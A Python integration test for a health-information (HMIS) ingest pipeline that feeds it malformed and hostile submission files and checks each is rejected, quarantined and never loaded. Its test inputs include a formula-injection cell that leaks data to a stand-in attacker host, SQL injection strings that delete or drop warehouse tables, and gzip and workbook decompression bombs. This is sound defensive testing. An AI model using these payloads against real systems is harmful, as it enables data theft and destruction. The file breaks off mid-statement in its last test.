"""A corpus of broken submissions, all in one batch with good files around them.

Every kind of broken file a district actually receives — wrong encodings, wrong delimiters,
archives, workbooks, formulas, identifiers where counts belong, files for the wrong
facility or month, codes the facility's HMIS format does not have, stock items without
their sub-item, statuses, dates and percentages that are not what their item takes — goes
through the real stages against a real warehouse in one run. Each must end rejected with a
precise reason (or correctly accepted), the run must succeed, every good file around them
must load with all its values under their data elements, nothing of a rejected file may be
loaded, every rejected file is copied to quarantine with its reason beside it, and no
reason or feedback document repeats a personal identifier.

Every file is written in its facility's own format (docs/formats.md), from the demo's truth:
a CHC, PHC, private hospital, clinic or AYUSH dispensary in the 2017 CHC facility format, a
sub-centre in the Sub-Centre format, a district or sub-district hospital in the 2017
consolidation with a ``sub_item`` column for its stock items.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import zipfile
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

import openpyxl
import pytest

from hmis.pipeline import monthly as tasks
from hmis.pipeline.run import Run
from hmis.platform.warehouse import fetch_all as rows
from hmis.reference.formats import STOCK_SUB_ITEMS, TOTAL, format_title, load_catalogue
from hmis.reference.periods import REPORTING_TZ
from hmis_dev.demo.generator import generate
from hmis_dev.demo.values import Report

pytestmark = pytest.mark.integration

AS_OF = datetime(2026, 11, 27, 6, 0, tzinfo=REPORTING_TZ)
DAY_2 = AS_OF + timedelta(days=1)
PERIOD = "2026-10"
MAX_BYTES = 200_000
HEADER = ["facility_id", "period", "item_code", "value"]
FIRST_ARRIVAL = datetime(2026, 11, 4, 10, 0, tzinfo=REPORTING_TZ)
SECOND_ARRIVAL = AS_OF + timedelta(hours=2)
# Identifiers planted in text cells; they must never be repeated by a reason or feedback.
RCH_ID = "4021" + "5566" + "7788"
MOBILE = "98765" + "43210"
CHC_FORMAT, CONSOLIDATION, NEWER_FORMAT = "hmis2017_chc", "hmis2017_consolidated", "hmis_newer"
# The facility types the corpus's ordinary cases take in turn. CHCs and the consolidation's
# hospitals (DH, SDH; the demo has one and two) go only to the cases that need them.
GENERAL_TYPES = ("PHC", "SC", "PVT_HOSPITAL", "NURSING_HOME", "CLINIC", "AYUSH")
# What the suite (expectations/hmis_submission.json) says, by expectation.
GX_VALUE = "are not whole numbers of 0 or more"
GX_UNKNOWN = "use an item code that is not in the HMIS format this facility reports on"
GX_SUB_ITEM = "have a sub_item that does not fit the item"
GX_UNIQUE = "repeat an item already given in the same file"
GX_STATUS = "stock status value(s) are not Adequate or Inadequate"
GX_DATE = "date value(s) are not real dates written DD/MM/YYYY"
GX_PERCENTAGE = "percentage value(s) are not a number from 0 to 100 with at most two decimals"


@dataclass(frozen=True)
class Case:
    kind: str
    key: str
    data: bytes
    outcome: str  # rejected | loaded | superseded | unchanged | not_discovered
    reason: tuple[str, ...] = ()  # substrings of the ledger's reason, every one of them
    facility: str | None = None
    values: dict | None = None  # what must be loaded for a loaded case: (element, disaggregation) -> value


def table(records, sep=",") -> str:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=sep, lineterminator="\n").writerows(records)
    return buffer.getvalue()


def report_of(truth, facility: str, period: str = PERIOD) -> Report:
    """The truth's values of a facility-month as the demo's report in the facility's format:
    the format's items, in its order, whose (element, disaggregation) the truth holds."""
    format_id = truth.formats[(facility, period)]
    values = truth.values[(facility, period)]
    items = tuple(item for item in load_catalogue().items[format_id]
                  if (item.element, item.disaggregations[0]) in values)
    assert sum(len(item.disaggregations) for item in items) == len(values), facility
    return Report(format_id, items, values)


def long_records(facility: str, report: Report, period: str = PERIOD) -> list[list[str]]:
    """The file as the demo writes it: the format's own codes, ``sub_item`` where it has stock."""
    columns, lines = report.table(facility, period)
    return [list(columns)] + [[line[column] for column in columns] for line in lines]


def facts(period: str = PERIOD) -> dict[str, dict[tuple[str, str], tuple]]:
    """Loaded values by facility, then (element, disaggregation): (value or text, file_id,
    format_id, the facility's own code)."""
    loaded: dict[str, dict[tuple[str, str], tuple]] = {}
    for facility, element, disaggregation, value, text, file_id, format_id, code in rows(
            """SELECT facility_id, item_code, disaggregation, value, value_text, file_id, format_id, format_code
                 FROM facts.monthly_value WHERE period = %s""", (period,)):
        loaded.setdefault(facility, {})[(element, disaggregation)] = (
            value if value is not None else text, file_id, format_id, code)
    return loaded


def workbook(sheets: list[tuple[str, list[list]]]) -> bytes:
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, records in sheets:
        sheet = book.create_sheet(name)
        for record in records:
            sheet.append(record)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def rewrite_zip(data: bytes, change) -> bytes:
    """A copy of a ZIP archive with ``change(name, bytes) -> bytes | None`` applied per entry."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            changed = change(name, source.read(name))
            if changed is not None:
                target.writestr(name, changed)
    return out.getvalue()


def typed(value: str):
    """A cell as a person types it into Excel: whole numbers as numbers, any other text as text."""
    return int(value) if value.isdigit() else value


class Corpus:
    """Hands out facilities that reported on time with one valid file, and builds cases."""

    def __init__(self, truth, types: dict[str, str]):
        self.truth = truth
        self.catalogue = load_catalogue()
        on_time = sorted(f for (f, p), s in truth.scenario.items() if p == PERIOD and s == "on_time")
        self._by_type = {t: [f for f in on_time if types[f] == t] for t in sorted({types[f] for f in on_time})}
        # The ordinary pool takes the general types in turn, so the corpus has every kind of file.
        queues = [list(self._by_type.get(t, [])) for t in GENERAL_TYPES]
        self._general = [q.pop(0) for _ in range(max(map(len, queues))) for q in queues if q]
        self._used: set[str] = set()
        self.cases: list[Case] = []
        self.closed_facility = self.facility()

    def facility(self, *types: str) -> str:
        """The next unused facility: of one of ``types`` if given, else of the ordinary pool."""
        pool = [f for t in types for f in self._by_type.get(t, [])] if types else self._general
        facility = next((f for f in pool if f not in self._used), None)
        assert facility is not None, f"the demo has no more on-time facilities of {types or GENERAL_TYPES}"
        self._used.add(facility)
        return facility

    def format_of(self, facility: str) -> str:
        return self.truth.formats[(facility, PERIOD)]

    def values(self, facility: str) -> dict[tuple[str, str], int | str]:
        return self.truth.values[(facility, PERIOD)]

    def report(self, facility: str) -> Report:
        return report_of(self.truth, facility)

    def row_of(self, facility: str, records, value_type: str, sub_item: str | None = None) -> int:
        """The index in ``records`` of the first line whose item has ``value_type``."""
        format_id = self.format_of(facility)
        for n, record in enumerate(records[1:], start=1):
            item = self.catalogue.item(format_id, record[2])
            if item.value_type == value_type and (sub_item is None or record[4] == sub_item):
                return n
        raise AssertionError(f"{facility} ({format_id}) has no {value_type} item")

    def add(self, kind, outcome, reason=(), *, data, name=None, facility=None, values=None, folder=PERIOD):
        key = f"submissions/{folder}/{name}"
        reason = (reason,) if isinstance(reason, str) else tuple(reason or ())
        self.cases.append(Case(kind, key, data, outcome, reason, facility, values))

    def csv_case(self, kind, reason, build, outcome="rejected", ext="csv", *, types=(), facility=None, label=None):
        """A case built from a facility's valid file: ``build(facility, records) -> bytes``.
        ``reason`` may be ``reason(facility)``, for reasons that name the facility's format."""
        facility = facility or self.facility(*types)
        data = build(facility, long_records(facility, self.report(facility)))
        name = f"{facility}__{label}.{ext}" if label else f"{facility}.{ext}"
        self.add(kind, outcome, reason(facility) if callable(reason) else reason, data=data, name=name,
                 facility=facility, values=self.values(facility) if outcome == "loaded" else None)

    def value_case(self, kind, bad_value, reason=GX_VALUE):
        def build(facility, records):
            records[3][3] = bad_value
            return table(records).encode()
        self.csv_case(kind, reason, build)

    def typed_value_case(self, kind, value_type, bad_value, reason, types):
        """A file whose first item of ``value_type`` holds ``bad_value``; the reason names it."""
        def build(facility, records):
            records[self.row_of(facility, records, value_type)][3] = bad_value
            return table(records).encode()
        self.csv_case(kind, (reason, f": {bad_value!r}"), build, types=types)

    def unknown_code_case(self, kind, code, build, types=()):
        """A file holding ``code``, which the facility's format does not have: named as such."""
        def reason(facility):
            format_id = self.format_of(facility)
            assert self.catalogue.item(format_id, code) is None, f"{code} is a code of {format_id}"
            return (f"1 row(s) {GX_UNKNOWN} ({format_title(format_id)}); check the code against the format: {code!r}",)
        self.csv_case(kind, reason, build, types=types)


def build_corpus(corpus: Corpus) -> None:
    c = corpus
    text = lambda records: table(records).encode()  # noqa: E731

    # ---- not a readable file at all
    c.csv_case("empty file (0 bytes)", "the file is empty (0 bytes)", lambda f, r: b"")
    c.csv_case("only blank lines", "holds only blank lines", lambda f, r: b"\n   \n\n")
    c.csv_case("header only", "has a header but no data rows", lambda f, r: text(r[:1]))
    c.csv_case("UTF-16 with byte-order mark", "saved as UTF-16", lambda f, r: table(r).encode("utf-16"))
    c.csv_case("UTF-16 without byte-order mark", "saved as UTF-16", lambda f, r: table(r).encode("utf-16-le"))
    c.csv_case("Latin-1 text", "line 2 holds the byte 0xE9",
               lambda f, r: table([r[0] + ["remarks"]] + [row + ["Kéndra"] for row in r[1:]]).encode("latin-1"))
    c.csv_case("NUL bytes in text", "holds a NUL byte", lambda f, r: text(r) + b"\x00\x00\x00")
    c.csv_case("control character in a cell", "line 3 holds the control character U+0007",
               lambda f, r: text(r).replace(",".join(r[2]).encode(), ",".join(r[2]).encode() + b"\x07"))
    c.csv_case("PNG image named .csv", "binary (a PNG image)", lambda f, r: b"\x89PNG\r\n\x1a\n" + bytes(64))
    c.csv_case("Excel 97-2003 content named .csv", "Excel 97-2003",
               lambda f, r: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512))
    c.csv_case("gzip bomb named .csv", "gzip-compressed archive", lambda f, r: gzip.compress(b"0" * 20_000_000))
    c.csv_case("file over the size limit", f"over the limit of {MAX_BYTES:,}",
               lambda f, r: text(r) + b"\n" * (MAX_BYTES + 1))
    c.csv_case("workbook saved under a .csv name", "Excel workbook saved under a .csv name",
               lambda f, r: workbook([("Report", r)]))

    # ---- layout (files of the four-column formats)
    c.csv_case("semicolon delimiter", "separated by semicolons", lambda f, r: table(r, ";").encode())
    c.csv_case("tab delimiter", "separated by tabs", lambda f, r: table(r, "\t").encode())
    c.csv_case("missing value column", "missing column(s) value", lambda f, r: text([row[:3] for row in r]))
    c.csv_case("row with a missing field", "line 3 has 3 fields but the header has 4",
               lambda f, r: text(r[:2] + [r[2][:3]] + r[3:]))
    c.csv_case("unquoted thousands separator", "a value with a comma (such as 1,234)",
               lambda f, r: text(r).replace(",".join(r[2]).encode() + b"\n", ",".join(r[2][:3]).encode() + b",1,234\n"))
    c.csv_case("no header line", "the header line is missing", lambda f, r: text(r[1:]))
    c.csv_case("quote opened and never closed", "runs over several lines",
               lambda f, r: text(r).replace(",".join(r[2]).encode(), ",".join(r[2][:3]).encode() + f',"{r[2][3]}'.encode()))

    # ---- cells screened at parse time, never repeated
    def cell(row, col, value):
        def build(f, r):
            r[row][col] = value
            return text(r)
        return build

    c.csv_case("20-digit value", "20-digit number", cell(2, 3, "98765432109876543210"))
    c.csv_case("RCH ID in a text cell", "12-digit number", cell(3, 2, f"RCH {RCH_ID}"))
    c.csv_case("mobile number in the facility cell", "10-digit number", cell(4, 0, MOBILE))
    c.csv_case("formula injection =HYPERLINK", "spreadsheet formula (it starts with '=')",
               cell(2, 3, '=HYPERLINK("http://attacker.example/?leak="&A1,"12")'))
    c.csv_case("formula injection @SUM", "spreadsheet formula (it starts with '@')", cell(3, 2, "@SUM(A1:A9)"))
    c.csv_case("database null marker", "a database null marker", cell(2, 3, "\\N"))

    # ---- count values the suite refuses (the whole file is rejected)
    c.value_case("negative value", "-5")
    c.value_case("decimal value", "12.5")
    c.value_case("NaN value", "NaN")
    c.value_case("exponent value", "1e3")
    c.value_case("quoted thousands separator", "1,234")
    c.value_case("text in a numeric cell", "twelve")
    c.value_case("empty value cell", "")
    c.value_case("SQL injection in a value", "1; DELETE FROM facts.monthly_value; --")

    # ---- values judged by their item's type: a status, a date, a percentage
    c.typed_value_case("stock status Good (not Adequate or Inadequate)", "status", "Good", GX_STATUS, ("PHC",))
    c.typed_value_case("date of last supply 31/02/2026 (no such day)", "date", "31/02/2026", GX_DATE, ("PHC",))
    c.typed_value_case("date of last supply written YYYY-MM-DD", "date", "2026-10-12", GX_DATE, ("PVT_HOSPITAL",))

    # ---- facility, period and item checks
    c.csv_case("duplicate rows", GX_UNIQUE, lambda f, r: text(r + [r[5]]))
    c.csv_case("SQL injection in the facility cell", "not in the district registry",
               cell(2, 0, "HR-HIS-0001'); DROP TABLE facts.monthly_value; --"))
    c.csv_case("rows for another facility", "name a facility other than the one the file was uploaded for",
               lambda f, r: text([r[0]] + [["HR-HIS-0001", *row[1:]] for row in r[1:]]))
    c.csv_case("wrong period", "period different from the month the file was uploaded for",
               lambda f, r: text([r[0]] + [[row[0], "2026-09", *row[2:]] for row in r[1:]]))
    c.csv_case("period in the future", "period different from the month the file was uploaded for",
               lambda f, r: text([r[0]] + [[row[0], "2027-01", *row[2:]] for row in r[1:]]))
    c.csv_case("period not YYYY-MM", "a period that is not YYYY-MM",
               lambda f, r: text([r[0]] + [[row[0], "Oct-2026", *row[2:]] for row in r[1:]]))
    c.unknown_code_case("unknown item code", "99.9.9", cell(2, 2, "99.9.9"))
    c.unknown_code_case("Devanagari in a code cell", "प्रसव", cell(2, 2, "प्रसव"))
    # A CHC writing the consolidation's number for institutional deliveries (its own is 2.1).
    catalogue = c.catalogue
    assert catalogue.item(CHC_FORMAT, "2.1").element == catalogue.item(CONSOLIDATION, "2.2").element == "2.2"
    c.unknown_code_case("CHC file with a consolidation-only code (2.2 for its 2.1)", "2.2",
                        lambda f, r: text([[*row[:2], "2.2", *row[3:]] if row[2] == "2.1" else row for row in r]),
                        types=("CHC",))
    assert catalogue.item(NEWER_FORMAT, "1.1.a") is not None
    c.unknown_code_case("CHC file with a code of the newer format", "1.1.a",
                        lambda f, r: text(r[:3] + [[f, PERIOD, "1.1.a", "4"]] + r[3:]), types=("CHC",))
    c.csv_case("sub-item given for a count item", (f"1 row(s) {GX_SUB_ITEM}", ": '1.1'"), types=("SC",),
               build=lambda f, r: text([r[0] + ["sub_item"]]
                                 + [row + ["2. Stocks Received" if row[2] == "1.1" else ""] for row in r[1:]]))

    # ---- the consolidation's stock items (a district hospital) and its percentage
    dh = c.facility("DH")
    stock = next(item.code for item in c.report(dh).items if item.value_type == "stock")

    def stock_row(r, sub_item):
        return next(n for n, row in enumerate(r) if row[2] == stock and row[4] == sub_item)

    def without_sub_item(f, r):
        r[stock_row(r, STOCK_SUB_ITEMS[1])][4] = ""
        return text(r)

    def stock_value(value):
        def build(f, r):
            r[stock_row(r, STOCK_SUB_ITEMS[3])][3] = value
            return text(r)
        return build

    c.csv_case("DH stock item without its sub-item", (f"1 row(s) {GX_SUB_ITEM}", f": {stock!r}"),
               without_sub_item, facility=dh)
    c.csv_case("DH file without a sub_item column", (f"5 row(s) {GX_SUB_ITEM}", f": {stock!r}", GX_UNIQUE),
               lambda f, r: text([row[:4] for row in r]), facility=dh, label="no-sub-item-column")
    c.csv_case("DH stock sub-item given twice", f"{GX_UNIQUE}: {stock!r}",
               lambda f, r: text(r[:stock_row(r, STOCK_SUB_ITEMS[3]) + 1] + r[stock_row(r, STOCK_SUB_ITEMS[3]):]),
               facility=dh, label="sub-item-twice")
    c.csv_case("DH stock figure as text", GX_VALUE, stock_value("plenty"), facility=dh, label="stock-text")
    assert c.catalogue.item(CONSOLIDATION, "14.20").value_type == "percentage"
    c.csv_case("DH patient satisfaction 120 per cent", (GX_PERCENTAGE, ": '120'"),
               lambda f, r: text([[*row[:3], "120", *row[4:]] if row[2] == "14.20" else row for row in r]),
               facility=dh, label="percentage")

    unknown = "HR-HIS-9999"
    c.add("unknown facility", "rejected", "not in the district registry", name=f"{unknown}.csv",
          data=text([HEADER, [unknown, PERIOD, "1.1", "3"], [unknown, PERIOD, "1.2.1", "2"]]), facility=unknown)
    closed = c.closed_facility
    c.add("closed facility", "rejected", "not registered on HMIS or was not open", name=f"{closed}.csv",
          data=text(long_records(closed, c.report(closed))), facility=closed)
    unregistered = c.truth.unregistered_ids[0]
    c.add("facility not registered on HMIS", "rejected", "not registered on HMIS or was not open",
          name=f"{unregistered}.csv", data=text([HEADER, [unregistered, PERIOD, "1.1", "3"]]), facility=unregistered)

    # ---- names and types
    f = c.facility()
    c.add(".zip upload", "rejected", "compressed archive (.zip)", name=f"{f}.zip", facility=f,
          data=_zip_of("report.csv", text(long_records(f, c.report(f)))))
    f = c.facility()
    c.add(".csv.gz upload", "rejected", "compressed archive (.gz)", name=f"{f}.csv.gz", facility=f,
          data=gzip.compress(text(long_records(f, c.report(f)))))
    f = c.facility()
    c.add("old .xls name", "rejected", "old Excel 97-2003 workbook (.xls)", name=f"{f}.xls", facility=f,
          data=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512))
    f = c.facility()
    c.add("SQL injection in the file name", "rejected", "should be <facility_id>.csv",
          name=f"{f}'; DROP TABLE ingest.file; --.csv", data=text(long_records(f, c.report(f))))
    f = c.facility()
    c.add("Excel lock file", "rejected", "should be <facility_id>.csv", name=f"~${f}.xlsx", data=b"\x00" * 165)

    # ---- JSON
    c.csv_case("CSV content named .json", "named .json but is CSV text", lambda f, r: text(r), ext="json")
    c.csv_case("malformed JSON", "the JSON is malformed at line",
               lambda f, r: b'{"dataValues": [{"dataElement": "1.1", "value": 3}', ext="json")
    c.csv_case("JSON nested too deeply", "nested too deeply", lambda f, r: b"[" * 50_000 + b"]" * 50_000,
               ext="json")

    # ---- Excel
    c.csv_case("zero-byte object named .xlsx", "the file is empty (0 bytes) although it is named .xlsx",
               lambda f, r: b"", ext="xlsx")
    c.csv_case("CSV text named .xlsx", "named .xlsx but is text", lambda f, r: text(r), ext="xlsx")
    c.csv_case("workbook with many sheets", "5 of the workbook's 5 sheets",
               lambda f, r: workbook([(f"Copy {n}", r) for n in range(5)]), ext="xlsx")
    c.csv_case("workbook without a report sheet", "none of the workbook's 3 sheet(s) has the header row",
               lambda f, r: workbook([(f"Notes {n}", [["remarks"], ["nothing here"]]) for n in range(3)]),
               ext="xlsx")
    c.csv_case("workbook with no worksheet at all", "the workbook has no worksheet",
               lambda f, r: _without_sheets(workbook([("Report", r)])), ext="xlsx")
    c.csv_case("workbook bomb", "the workbook would expand to",
               lambda f, r: rewrite_zip(workbook([("Report", r)]), lambda n, b: b if n != "xl/worksheets/sheet1.xml"
                                        else b + b" " * (30 * MAX_BYTES)), ext="xlsx")
    c.csv_case("formula in a workbook", "row 3: the value cell holds a spreadsheet formula",
               lambda f, r: workbook([("Report", r[:2] + [r[2][:3] + ["=SUM(D2:D2)"]] + r[3:])]), ext="xlsx")

    # ---- correctly accepted despite looking odd
    c.csv_case("UTF-8 byte-order mark", (), lambda f, r: b"\xef\xbb\xbf" + text(r), outcome="loaded")
    c.csv_case("Devanagari names in an extra column", (), outcome="loaded",
               build=lambda f, r: table([r[0] + ["facility_name"]] + [row + ["सामुदायिक स्वास्थ्य केंद्र अग्रोहा"]
                                                                        for row in r[1:]]).encode())
    c.csv_case("extra columns with a quoted newline", (), outcome="loaded",
               build=lambda f, r: table([["remarks", *r[0], "checked_by"]]
                                        + [["line one\nline two", *row, "ANM"] for row in r[1:]]).encode())
    c.csv_case("RCH ID in an extra column", (), outcome="loaded",
               build=lambda f, r: table([r[0] + ["remarks"]] + [row + [f"RCH {RCH_ID}"] for row in r[1:]]).encode())
    c.csv_case("trailing empty cells and CRLF line ends", (), outcome="loaded",
               build=lambda f, r: table([row + ["", ""] for row in r]).replace("\n", "\r\n").encode())
    c.csv_case("spaces around cells", (), outcome="loaded",
               build=lambda f, r: text([[f" {v} " for v in row] for row in r]))
    c.csv_case("columns in another order, sub_item column of TOTALs", (), outcome="loaded", types=("PHC",),
               build=lambda f, r: text([["value", "sub_item", "item_code", "period", "facility_id"]]
                                       + [[row[3], "TOTAL", row[2], row[1], row[0]] for row in r[1:]]))
    c.csv_case("Excel workbook with the period typed as a date", (), outcome="loaded", ext="xlsx", types=("PHC",),
               build=lambda f, r: workbook([("Notes", [["prepared by the MO"]]),
                                            ("Report", [r[0]] + [[row[0], datetime(2026, 10, 1), row[2], typed(row[3])]
                                                                 for row in r[1:]])]))
    c.csv_case("DHIS2 dataValueSets JSON", (), outcome="loaded", ext="json", types=("CHC",),
               build=lambda f, r: json.dumps({"dataSet": "HMIS", "period": "202610", "orgUnit": f, "dataValues": [
                   {"dataElement": row[2], "value": row[3]} for row in r[1:]]}).encode())
    # A sub-district hospital's stock sub-items as DHIS2 category option combos.
    c.csv_case("DHIS2 JSON with stock sub-items as categoryOptionCombo", (), outcome="loaded", ext="json",
               types=("SDH",),
               build=lambda f, r: json.dumps({"dataSet": "HMIS", "period": "202610", "orgUnit": f, "dataValues": [
                   {"dataElement": row[2], "value": row[3], **({"categoryOptionCombo": row[4]} if row[4] else {})}
                   for row in r[1:]]}).encode())

    # ---- not yet a submission: a folder whose month is not open
    f = c.facility()
    c.add("file in a future month's folder", "not_discovered", name=f"{f}.csv", folder="2026-12", facility=f,
          data=text(long_records(f, c.report(f), "2026-12")))


def _zip_of(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return out.getvalue()


def _without_sheets(data: bytes) -> bytes:
    def change(name, content):
        if name.startswith("xl/worksheets/"):
            return None
        if name == "xl/workbook.xml":
            start, end = content.index(b"<sheets>"), content.index(b"</sheets>") + len(b"</sheets>")
            return content[:start] + b"<sheets/>" + content[end:]
        return content
    return rewrite_zip(data, change)


def write(landing: Path, key: str, data: bytes, arrived: datetime) -> None:
    path = landing / key
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    os.utime(path, (arrived.timestamp(), arrived.timestamp()))


def run_stages(as_of: datetime) -> dict:
    """The ingest stages and compliance for one logical date; each must succeed."""
    return {stage: getattr(tasks, stage)(Run.at(as_of)) for stage in
            ("prepare", "discover", "parse", "validate", "load", "update_compliance")}


def facility_types(registry: Path) -> dict[str, str]:
    with registry.open(encoding="utf-8", newline="") as handle:
        return {row["facility_id"]: row["facility_type"] for row in csv.DictReader(handle)}


@pytest.fixture
def corpus_run(warehouse, landing, tmp_path, monkeypatch):
    monkeypatch.setenv("HMIS_MAX_FILE_BYTES", str(MAX_BYTES))
    monkeypatch.setenv("HMIS_DATA_DOCS", "off")
    truth = generate(tmp_path / "demo", AS_OF, months=1)
    corpus = Corpus(truth, facility_types(tmp_path / "demo" / "registry" / "facilities.csv"))
    # The registry, with one facility closed before the period began.
    registry = (tmp_path / "demo" / "registry" / "facilities.csv").read_text(encoding="utf-8").splitlines()
    registry = [line + "2026-06-30" if line.startswith(corpus.closed_facility + ",") else line for line in registry]
    write(landing, "registry/facilities.csv", ("\n".join(registry) + "\n").encode(), FIRST_ARRIVAL)
    write(landing, "registry/contacts.csv", (tmp_path / "demo" / "registry" / "contacts.csv").read_bytes(),
          FIRST_ARRIVAL)

    # Day 1: good files only, some of which the corpus later duplicates or resubmits; one is a
    # sub-district hospital's, with its stock sub-items.
    first_good = [corpus.facility() for _ in range(3)] + [corpus.facility("SDH")]
    duplicated, rewritten, resubmitted = corpus.facility(), corpus.facility(), corpus.facility()
    for facility in first_good + [duplicated, rewritten, resubmitted]:
        write(landing, f"submissions/{PERIOD}/{facility}.csv", table(long_records(
            facility, corpus.report(facility))).encode(), FIRST_ARRIVAL)
    first = run_stages(AS_OF)
    assert first["load"]["loaded_files"] == 7

    # Day 2: the whole corpus, with good files around it, in one batch.
    build_corpus(corpus)
    original = (landing / f"submissions/{PERIOD}/{duplicated}.csv").read_bytes()
    corpus.add("duplicate of a loaded file under another key", "loaded", name=f"{duplicated}__copy.csv",
               data=original, facility=duplicated, values=corpus.values(duplicated))
    corpus.add("the same file uploaded again under its key", "unchanged", name=f"{rewritten}.csv",
               data=(landing / f"submissions/{PERIOD}/{rewritten}.csv").read_bytes(), facility=rewritten,
               values=corpus.values(rewritten))
    report = corpus.report(resubmitted)
    older = report.with_counts({element: value + 1 for element, value in report.numbers().items()})
    corpus.add("resubmission older than the loaded file", "superseded", name=f"{resubmitted}__older.csv",
               data=table(long_records(resubmitted, older)).encode(), facility=resubmitted,
               values=corpus.values(resubmitted))
    second_good = [corpus.facility() for _ in range(3)] + [corpus.facility("CHC")]
    for n, case in enumerate(corpus.cases):
        arrived = FIRST_ARRIVAL - timedelta(days=1) if case.outcome == "superseded" else SECOND_ARRIVAL
        write(landing, case.key, case.data, arrived + timedelta(seconds=n))
    for facility in second_good:
        write(landing, f"submissions/{PERIOD}/{facility}.csv",
              table(long_records(facility, corpus.report(facility))).encode(), SECOND_ARRIVAL)
    second = run_stages(DAY_2)
    return corpus, first_good + second_good, second


def _values(got: dict) -> dict:
    return {key: entry[0] for key, entry in got.items()}


def _file_ids(got: dict) -> set:
    return {entry[1] for entry in got.values()}


def test_every_broken_file_is_rejected_precisely_and_every_good_file_loads(corpus_run, landing):
    corpus, good, second = corpus_run
    kinds = {case.kind for case in corpus.cases}
    assert len(kinds) == len(corpus.cases) >= 30
    rejected_cases = [c for c in corpus.cases if c.outcome == "rejected"]
    assert len(rejected_cases) >= 30

    ledger = {key: (fid, status, reason, qkey) for fid, key, status, reason, qkey in rows(
        "SELECT file_id, key, status, reason, quarantine_key FROM ingest.file")}
    loaded = facts()

    problems = []
    for case in corpus.cases:
        entry = ledger.get(case.key)
        if case.outcome == "not_discovered":
            if entry is not None:
                problems.append(f"{case.kind}: taken although its month is not open")
            continue
        if entry is None:
            problems.append(f"{case.kind}: not in the ledger")
            continue
        file_id, status, reason, quarantine_key = entry
        if case.outcome == "rejected":
            assert case.reason, case.kind
            if status != "rejected" or not all(part in (reason or "") for part in case.reason):
                problems.append(f"{case.kind}: {status}, reason {reason!r}; expected {case.reason!r}")
                continue
            if rows("SELECT count(*) FROM facts.monthly_value WHERE file_id = %s", (file_id,))[0][0]:
                problems.append(f"{case.kind}: rows of a rejected file were loaded")
            if rows("SELECT count(*) FROM ingest.staged_value WHERE file_id = %s", (file_id,))[0][0]:
                problems.append(f"{case.kind}: rows of a rejected file are still staged")
            if case.facility and case.facility in loaded:
                problems.append(f"{case.kind}: its facility-period has loaded values")
            copy, note = landing / quarantine_key, landing / (quarantine_key + ".reason.txt")
            if not (copy.is_file() and copy.read_bytes() == case.data):
                problems.append(f"{case.kind}: no faithful quarantine copy at {quarantine_key}")
            if not (note.is_file() and all(part in note.read_text(encoding="utf-8") for part in case.reason)):
                problems.append(f"{case.kind}: no reason beside the quarantine copy")
            if not quarantine_key.startswith(f"quarantine/{PERIOD}/{file_id}-") or ".." in quarantine_key:
                problems.append(f"{case.kind}: quarantine key {quarantine_key!r} is not a plain key")
        elif case.outcome == "loaded":
            expected_ids = {fid for key, (fid, st, _r, _q) in ledger.items() if key == case.key}
            got = loaded.get(case.facility, {})
            if status != "loaded" or _values(got) != case.values or _file_ids(got) != expected_ids:
                missing = sorted(set(case.values) - set(got))[:5]
                differ = sorted(k for k in case.values if k in got and got[k][0] != case.values[k])[:5]
                problems.append(f"{case.kind}: {status}, {reason!r}; values loaded differ from the file "
                                f"(missing {missing}, different {differ})")
        elif case.outcome == "superseded":
            winner = ledger[f"submissions/{PERIOD}/{case.facility}.csv"][0]
            got = loaded.get(case.facility, {})
            if status != "superseded" or _values(got) != case.values or _file_ids(got) != {winner}:
                problems.append(f"{case.kind}: {status}; the newer loaded file must stay loaded")
        elif case.outcome == "unchanged":
            if rows("SELECT count(*) FROM ingest.file WHERE key = %s", (case.key,))[0][0] != 1 or status != "loaded":
                problems.append(f"{case.kind}: taken again ({status})")
    assert not problems, "\n".join(problems)
    assert second["parse"]["unreadable_files"] + second["validate"]["rejected_files"] == len(rejected_cases)

    # Every good file around the corpus loaded exactly as sent: every value (a number for
    # counts and stock, the text for statuses, dates and percentages) on its data element
    # and disaggregation, with the facility's format and its own code beside it.
    catalogue = load_catalogue()
    formats = set()
    for facility in good:
        report = corpus.report(facility)
        formats.add(report.format_id)
        assert _values(loaded[facility]) == corpus.values(facility), facility
        assert {key: entry[2:] for key, entry in loaded[facility].items()} == {
            (item.element, sub): (report.format_id, item.code)
            for item in report.items for sub in item.disaggregations}, facility
    assert formats == {CHC_FORMAT, "hmis2017_sc", CONSOLIDATION}
    # Text values stayed text and stock figures numbers, as the formats type them.
    sdh = next(f for f in good if corpus.format_of(f) == CONSOLIDATION)
    assert rows("""SELECT disaggregation, count(*) FROM facts.monthly_value
                    WHERE facility_id = %s AND value IS NOT NULL AND disaggregation <> %s
                    GROUP BY 1 ORDER BY 1""", (sdh, TOTAL)) == [
        (sub, sum(1 for item in catalogue.items[CONSOLIDATION] if item.value_type == "stock"))
        for sub in STOCK_SUB_ITEMS]
    # A duplicate under another key replaces its twin with equal values: one loaded file, no doubled rows.
    duplicate = next(c for c in corpus.cases if c.kind.startswith("duplicate of a loaded file"))
    assert rows("""SELECT status, count(*) FROM ingest.file WHERE facility_id = %s AND period = %s
                    GROUP BY 1 ORDER BY 1""", (duplicate.facility, PERIOD)) == [("loaded", 1), ("superseded", 1)]
    # Nothing twice: one value per facility, period, element and disaggregation is the table's
    # key; one loaded file each.
    assert rows("""SELECT count(*) FROM (SELECT facility_id, period FROM ingest.file WHERE status = 'loaded'
                    GROUP BY 1, 2 HAVING count(*) > 1) x""") == [(0,)]
    # The SQL in cells and names was data, never code.
    assert rows("SELECT count(*) > 0 FROM facts.monthly_value") == [(True,)]


def test_reasons_and_feedback_never_repeat_personal_identifiers(corpus_run, landing):
    texts = [r for row in rows("SELECT coalesce(reason, '') FROM ingest.file") for r in row]
    texts += [" ".join(str(v) for v in row) for row in rows(
